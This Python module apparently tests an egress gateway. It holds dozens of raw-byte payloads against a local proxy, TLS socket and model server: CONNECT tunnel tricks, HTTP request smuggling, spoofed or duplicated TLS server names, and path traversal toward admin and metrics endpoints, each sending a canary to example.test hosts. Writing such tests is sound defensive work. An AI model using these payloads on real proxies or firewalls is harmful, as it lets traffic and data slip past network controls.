"""Ways out by bytes that the gateway's proxy, its TLS socket or its model socket might read as something else."""

import socket
from collections.abc import Callable
from functools import partial

PROXY_PORT, MODEL_PORT = ("127.0.0.1", 21002), ("127.0.0.1", 21001)
TLS_PORT = ("127.64.0.1", 443)
PATIENCE = 6.0

Attack = Callable[[str], object]


def sent(server: tuple[str, int], *parts: bytes) -> bytes:
    """Send parts, each once there is an answer to the one before; return the begin of all answers."""
    with socket.create_connection(server, PATIENCE) as client:
        answer = b""
        for part in parts:
            client.sendall(part)
            answer += client.recv(2000)
        return answer


def text(server: tuple[str, int], *templates: str) -> Attack:
    """Return an attack that sends these, with its mark in the place of MARK."""
    return lambda mark: sent(server, *(one.replace("MARK", mark).encode("latin-1") for one in templates))


# The name of a tunnel. What follows it carries the mark, too, should it be opened to the one that is allowed.

CONNECTED = {
    "another name": "MARK.example.test:80",
    "a name below an allowed one": "MARK.git.example.test:80",
    "a name that ends alike": "MARK-git.example.test:80",
    "a name that begins alike": "git.example.test.MARK.example.test:80",
    "a user in front": "git.example.test:443@MARK.example.test:80",
    "a fragment": "MARK.example.test:80#git.example.test:443",
    "a path": "MARK.example.test:80/git.example.test:443",
    "a query": "MARK.example.test:80?git.example.test:443",
    "a backslash": "MARK.example.test:80\\@git.example.test:443",
    "NUL": "MARK.example.test:80\0git.example.test:443",
    "NUL, encoded": "git.example.test%00.MARK.example.test:80",
    "an encoded dot": "MARK%2eexample.test:80",
    "a tab": "MARK.exa\tmple.test:80",
    "two last dots": "git.example.test..:80",
    "another port": "git.example.test:8080",
    "a port that wraps around": f"git.example.test:{65536 + 8080}",
    "a port with a sign": "git.example.test:+8080",
    "two ports": "git.example.test:443:8080",
    "capitals of another alphabet": "MARK.ex\xe4mple.test:80",
}


def tunnel(target: str) -> Attack:
    request = f"CONNECT {target} HTTP/1.1\r\n\r\n"
    return text(PROXY_PORT, request, "GET /MARK HTTP/1.1\r\nHost: MARK.example.test\r\n\r\n")


def tunnel_to(place: str, port: int = 80) -> Attack:
    """Return a tunnel to a name that is on the list, and at an address that nothing may reach."""
    return tunnel(f"{place}.example.test:{port}")


# A request for the allowed name in front, and one for another behind it, in the same bytes.

HEAD = "GET http://git.example.test/ HTTP/1.1\r\nHost: git.example.test\r\n"
POST = HEAD.replace("GET", "POST")
SECOND = "GET http://git.example.test/MARK HTTP/1.1\r\nHost: MARK.example.test\r\n\r\n"
LENGTH = len(SECOND.replace("MARK", "m" * 14))
FORWARDED = {
    "a second request": f"{HEAD}\r\n{SECOND}",
    "two lengths": f"{POST}Content-Length: 0\r\nContent-Length: {LENGTH}\r\n\r\n{SECOND}",
    "two lengths in one": f"{POST}Content-Length: 0, {LENGTH}\r\n\r\n{SECOND}",
    "a length and chunks": f"{POST}Content-Length: {LENGTH}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SECOND}",
    "a length that is signed": f"{POST}Content-Length: +0\r\n\r\n{SECOND}",
    "chunks behind a space": f"{POST}Content-Length: 0\r\nTransfer-Encoding : chunked\r\n\r\n{SECOND}",
    "chunks that are none": f"{POST}Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n{SECOND}",
    "chunks twice": f"{POST}Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n{SECOND}",
    "chunks of HTTP/1.0": f"{POST.replace('HTTP/1.1', 'HTTP/1.0')}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SECOND}",
    "a request behind the last chunk": f"{POST}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{SECOND}",
    "a size of a chunk that overflows": f"{POST}Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n{SECOND}",
    "a size of a chunk with a sign": f"{POST}Transfer-Encoding: chunked\r\n\r\n-0\r\n\r\n{SECOND}",
    "a trailer": f"{POST}Transfer-Encoding: chunked\r\n\r\n0\r\nX: MARK\r\n\r\n",
    "an extension of a chunk": f"{POST}Transfer-Encoding: chunked\r\n\r\n0;x=MARK\r\n\r\n",
    "another host": f"{HEAD}Host: MARK.example.test\r\n\r\n",
    "only another host": "GET http://git.example.test/ HTTP/1.1\r\nHost: MARK.example.test\r\n\r\n",
    "another host behind a bare LF": f"{HEAD}X: y\nHost: MARK.example.test\r\n\r\n",
    "another host behind a bare CR": f"{HEAD}X: y\rHost: MARK.example.test\r\n\r\n",
    "another host in a folded line": f"{HEAD}X: y\r\n Host: MARK.example.test\r\n\r\n",
    "another host behind NUL": f"{HEAD}X: y\0Host: MARK.example.test\r\n\r\n",
    "another host with a space": f"{HEAD}Host : MARK.example.test\r\n\r\n",
    "an encoded end of a line": "GET http://git.example.test%0d%0aHost:%20MARK.example.test/ HTTP/1.1\r\n\r\n",
    "a user in front": "GET http://git.example.test@MARK.example.test/ HTTP/1.1\r\n\r\n",
    "a backslash": "GET http://MARK.example.test\\@git.example.test/ HTTP/1.1\r\n\r\n",
    "a field of one connection": f"{HEAD}Connection: X-A\r\nX-A: MARK\r\nProxy-Authorization: MARK\r\n\r\n",
    "an upgrade to HTTP/2": f"{HEAD}Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: MARK\r\n\r\n",
    "an upgrade to a WebSocket": f"{HEAD}Connection: Upgrade\r\nUpgrade: MARK\r\n\r\n",
    "HTTP/2 without asking": "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\nMARK.example.test",
    "HTTP/0.9": "GET http://git.example.test/MARK\r\n\r\n",
    "an address of FTP": "GET ftp://MARK.example.test/ HTTP/1.1\r\n\r\n",
    "an address of https": "GET https://MARK.example.test/ HTTP/1.1\r\n\r\n",
    "no host": "GET /MARK HTTP/1.1\r\nHost: git.example.test\r\n\r\n",
    "two slashes": "GET //MARK.example.test/ HTTP/1.1\r\nHost: MARK.example.test\r\n\r\n",
    "an empty line in front": f"\r\n{SECOND}",
    "SOCKS with a name": "\4\1\0P\0\0\0\1x\0MARK.example.test\0\n",
    "not HTTP": "EHLO MARK.example.test\r\n\r\n",
    "the protocol of proxies": f"PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n{SECOND}",
    "an address of another kind": "CONNECT MARK.example.test:22 HTTP/1.1\r\n\r\nSSH-2.0-MARK\r\n",
}  # fmt: skip

PROXY: dict[str, Attack] = {
    **{f"a tunnel to {name}": tunnel(target) for name, target in CONNECTED.items()},
    "a tunnel with a body": text(PROXY_PORT, "CONNECT git.example.test:443 HTTP/1.1\r\nContent-Length: 9\r\n\r\n", "GET /MARK\r\n\r\n"),
    "a tunnel with another Host": text(PROXY_PORT, "CONNECT git.example.test:443 HTTP/1.1\r\nHost: MARK.example.test\r\n\r\n", "GET /MARK\r\n\r\n"),
    "a tunnel without TLS": text(PROXY_PORT, "CONNECT git.example.test:443 HTTP/1.1\r\n\r\n", "GET /MARK HTTP/1.1\r\n\r\n"),
    "a tunnel to a private address": tunnel_to("private"),
    "a tunnel to a name with two kinds of address": tunnel_to("both"),
    "plain HTTP to a private address": text(PROXY_PORT, "GET http://private.example.test/MARK HTTP/1.1\r\n\r\n"),
    "plain HTTP to a private address in IPv6's form": text(PROXY_PORT, "GET http://mapped.example.test/MARK HTTP/1.1\r\n\r\n"),
    **{name: text(PROXY_PORT, request) for name, request in FORWARDED.items()},
}  # fmt: skip


# The first bytes of TLS.


def extension(kind: int, content: bytes) -> bytes:
    return kind.to_bytes(2, "big") + len(content).to_bytes(2, "big") + content


def server_name(*names: str) -> bytes:
    entries = b"".join(b"\0" + len(name).to_bytes(2, "big") + name.encode("latin-1") for name in names)
    return extension(0, len(entries).to_bytes(2, "big") + entries)


def hello(mark: str, *extensions: bytes) -> bytes:
    """Return a hello whose session, which is no more in TLS 1.3, is the mark."""
    block = b"".join(extensions)
    body = (
        b"\x03\x03" + bytes(32) + bytes((len(mark),)) + mark.encode() + b"\0\2\x13\1\1\0"
        + len(block).to_bytes(2, "big") + block
    )  # fmt: skip
    message = b"\1" + len(body).to_bytes(3, "big") + body
    return b"\x16\3\1" + len(message).to_bytes(2, "big") + message


ALLOWED = "git.example.test"
ENCRYPTED_HELLO = extension(0xFE0D, b"\0\0\1\0\1\0\0\x20" + bytes(32) + b"\0\x10" + bytes(16))
HELLOS: dict[str, Callable[[str], bytes]] = {
    "another name": lambda mark: hello(mark, server_name(f"{mark}.example.test")),
    "a name below an allowed one": lambda mark: hello(mark, server_name(f"{mark}.{ALLOWED}")),
    "no name": lambda mark: hello(mark, extension(10, b"\0\2\0\x1d")),
    "no extension": hello,
    "two names": lambda mark: hello(mark, server_name(ALLOWED, f"{mark}.example.test")),
    "two lists of names": lambda mark: hello(mark, server_name(ALLOWED), server_name(f"{mark}.example.test")),
    "NUL in the name": lambda mark: hello(mark, server_name(f"{ALLOWED}\0.{mark}.example.test")),
    "an address for a name": lambda mark: hello(mark, server_name("203.0.113.1")),
    "an encrypted hello of another name": lambda mark: hello(mark, server_name(f"{mark}.example.test"), ENCRYPTED_HELLO),
    "a hello in small records": lambda mark: small_records(hello(mark, server_name(f"{mark}.example.test"))),
    "plain HTTP": lambda mark: f"GET /{mark} HTTP/1.1\r\nHost: {ALLOWED}\r\n\r\n".encode(),
    "SSH": lambda mark: f"SSH-2.0-{mark}\r\n".encode(),
    "an alert in front": lambda mark: b"\x15\3\1\0\2\1\0" + hello(mark, server_name(ALLOWED)),
    "SSL 2": lambda mark: b"\x80\x2e\1\3\1\0\x15\0\0\0\x10" + mark.encode() * 3,
}  # fmt: skip


def small_records(data: bytes) -> bytes:
    message = data[5:]
    parts = [message[at : at + 60] for at in range(0, len(message), 60)]
    return b"".join(data[:3] + len(part).to_bytes(2, "big") + part for part in parts)


def in_tunnel(first: Callable[[str], bytes], mark: str) -> bytes:
    return sent(PROXY_PORT, f"CONNECT {ALLOWED}:443 HTTP/1.1\r\n\r\n".encode(), first(mark))


def captured(first: Callable[[str], bytes], mark: str) -> bytes:
    return sent(TLS_PORT, first(mark))


CAPTURED: dict[str, Attack] = {
    **{f"TLS with {name}": partial(captured, first) for name, first in HELLOS.items()},
    **{f"a tunnel, and in it {name}": partial(in_tunnel, first) for name, first in HELLOS.items()},
}


# What is asked of the model server.

PATHS = {
    "another path": "/local/MARK",
    "what administers it": "/local/v1/load_lora_adapter?m=MARK",
    "metrics": "/local/metrics?m=MARK",
    "dots": "/local/v1/../metrics?m=MARK",
    "encoded dots": "/local/v1/%2e%2e/metrics?m=MARK",
    "an encoded slash": "/local/v1/models%2f..%2fmetrics?m=MARK",
    "dots in a model's name": "/local/v1/models/../../metrics?m=MARK",
    "encoded slashes in a model's name": "/local/v1/models/a%2F..%2F..%2Fmetrics?m=MARK",
    "two slashes": "/local//metrics?m=MARK",
    "a backslash": "/local/v1\\..\\metrics?m=MARK",
    "a parameter of a path": "/local/metrics;/v1/models?m=MARK",
    "a parameter behind a path": "/local/v1/models;MARK",
    "a fragment": "/local/v1/models#MARK",
    "a question mark, encoded": "/local/v1/models%3fMARK",
    "NUL, encoded": "/local/v1/models%00MARK",
    "no server": "/v1/models?m=MARK",
    "another server": "/MARK/v1/models",
    "an address": "http://MARK.example.test/local/v1/models",
    "a name in the address": "//MARK.example.test/v1/models",
    "an answer that is kept": "/local/v1/responses/MARK",
}
ASKED = "GET /local/v1/models HTTP/1.1\r\n"
HEADS = {
    "a field that no tool needs": f"{ASKED}X-Secret: MARK\r\n\r\n",
    "a cookie": f"{ASKED}Cookie: MARK\r\n\r\n",
    "a key of its own": f"{ASKED}Authorization: Bearer MARK\r\nX-Api-Key: MARK\r\n\r\n",
    "another host": f"{ASKED}Host: MARK.example.test\r\nX-Forwarded-Host: MARK.example.test\r\n\r\n",
    "a path in a field": f"{ASKED}X-Original-URL: /MARK\r\nX-HTTP-Method-Override: MARK\r\n\r\n",
    "a field that a bare LF ends": f"{ASKED}Accept: a\nX-Secret: MARK\r\n\r\n",
    "a second request": f"{ASKED}\r\nGET /local/MARK HTTP/1.1\r\n\r\n",
    "a length and chunks": f"{ASKED.replace('GET', 'POST').replace('models', 'messages')}Content-Length: 60\r\n"
    "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /MARK HTTP/1.1\r\n\r\n",
    "an upgrade": f"{ASKED}Connection: Upgrade\r\nUpgrade: MARK\r\n\r\n",
    "another method": "DELETE /local/v1/models/MARK HTTP/1.1\r\n\r\n",
    "a tunnel": "CONNECT MARK.example.test:80 HTTP/1.1\r\n\r\n",
}
MODEL: dict[str, Attack] = {
    **{name: text(MODEL_PORT, f"GET {path} HTTP/1.1\r\n\r\n") for name, path in PATHS.items()},
    **{name: text(MODEL_PORT, head) for name, head in HEADS.items()},
}
